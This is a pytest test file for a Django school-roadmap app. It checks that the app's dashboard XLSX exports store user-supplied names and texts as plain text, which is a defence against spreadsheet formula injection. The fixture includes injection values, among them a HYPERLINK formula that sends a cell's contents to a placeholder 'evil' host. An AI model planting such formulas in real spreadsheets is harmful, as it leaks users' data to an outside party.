"""Every dashboard XLSX carries names and activity texts as text, never as formulas."""

from __future__ import annotations

import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from roadmaps.models import Activity, CompletionMark, DeadlineWindow, Executor, Roadmap, Section
from schools.models import Municipality, Organisation, Region

pytestmark = pytest.mark.django_db

SCHOOL = '=HYPERLINK("http://evil/?"&A1,"x")'
TEXTS = {
    "municipality": "=1+1",
    "school": SCHOOL,
    "roadmap": "-знакомство с планом",
    "section": "+7 999 123-45-67",
    "activity": "=СУММ(A1:A3)",
    "number": "@1",
}


@pytest.fixture
def hostile():
    region = Region.objects.create(name="Область для проверки")
    municipality = Municipality.objects.create(region=region, name=TEXTS["municipality"])
    place = {"region": region, "municipality": municipality}
    department = Organisation.objects.create(kind=Organisation.Kind.DEPARTMENT, name="УО", **place)
    school = Organisation.objects.create(name=SCHOOL, short_name=SCHOOL, **place)
    roadmap = Roadmap.objects.create(
        owner=department,
        title=TEXTS["roadmap"],
        period_start=date(2025, 9, 1),
        period_end=date(2026, 8, 31),
        status=Roadmap.Status.APPROVED,
    )
    section = Section.objects.create(roadmap=roadmap, number="1", title=TEXTS["section"], order=1)
    activity = Activity.objects.create(
        roadmap=roadmap, section=section, number=TEXTS["number"], content=TEXTS["activity"], order=1
    )
    january = DeadlineWindow.objects.create(activity=activity, start=date(2026, 1, 1), end=date(2026, 1, 31))
    DeadlineWindow.objects.create(activity=activity, start=date(2026, 2, 1), end=date(2026, 2, 15))
    executor = Executor.objects.create(activity=activity, kind="school", label=SCHOOL, organisation=school)
    CompletionMark.objects.create(
        executor=executor, window=january, status="done", completed_on=date(2026, 1, 20)
    )
    return {"regions": region, "municipalities": municipality, "schools": school, "roadmaps": roadmap}


@pytest.mark.parametrize("slug", ["regions", "municipalities", "schools", "roadmaps"])
def test_no_cell_of_a_dashboard_export_is_a_formula(client, superuser, hostile, slug):
    client.force_login(superuser)
    response = client.get(
        reverse("monitoring:dashboard_export", args=[slug, hostile[slug].pk]), {"on": "2026-03-01"}
    )
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [(c.parent.title, c.coordinate) for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    expected = {"roadmaps": ["section", "activity", "number"], "schools": ["school", "activity", "roadmap"]}
    for key in expected.get(slug, ["municipality", "school", "roadmap", "section", "activity"]):
        assert any(TEXTS[key] in t for t in texts), key
    assert any(c.data_type == "n" for c in cells)  # the counts stay numbers
